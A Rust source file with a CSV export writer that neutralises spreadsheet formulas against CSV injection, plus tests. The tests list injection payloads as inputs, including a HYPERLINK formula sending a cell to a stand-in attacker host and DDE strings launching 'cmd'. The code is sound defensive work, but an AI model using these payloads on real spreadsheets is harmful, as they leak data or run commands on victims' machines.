//! The one CSV writer of every export (pages and command line): `;`, UTF-8 with a BOM, as
//! French Excel expects, and no cell that a spreadsheet would run as a formula.

use std::borrow::Cow;

/// Rows as CSV; the first row is the header. Every cell goes through [`neutralise`]: what
/// agents, imports and people typed can never become a formula in the spreadsheet.
pub fn csv(rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    for r in rows {
        // Writing into memory cannot fail.
        let _ = w.write_record(r.iter().map(|cell| neutralise(cell).into_owned()));
    }
    w.into_inner().unwrap_or_default()
}

/// A cell a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, a tab
/// or a carriage return) gets a leading `'`, as OWASP advises against CSV injection.
/// A plain number (`-12,50`, `+33 1 23`) is left alone: it cannot call anything.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    // The risky first characters are ASCII: the rest starts at byte 1.
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = risky
        && cell[1..].chars().any(|c| c.is_ascii_digit())
        && cell[1..]
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ',' | '.' | ' ' | '\u{a0}' | '\u{202f}'));
    if risky && !number {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_numbers_kept() {
        for bad in [
            "=HYPERLINK(\"http://attacker.invalid/?x=\"&B2,\"Voir\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=",
            "-",
        ] {
            assert_eq!(neutralise(bad), format!("'{bad}"), "{bad:?}");
        }
        for fine in [
            "-12,50",
            "+33 1 23 45 67 89",
            "749,00",
            "PC-01",
            "a=b",
            "",
            "'quoted",
            "École",
            "é",
        ] {
            assert_eq!(neutralise(fine), fine, "{fine:?}");
        }
        let out = String::from_utf8(csv(&[
            vec!["Nom".into(), "Série".into()],
            vec!["=1+1".into(), "@x".into()],
        ]))
        .unwrap();
        assert_eq!(out, "\u{feff}Nom;Série\n'=1+1;'@x\n");
    }
}
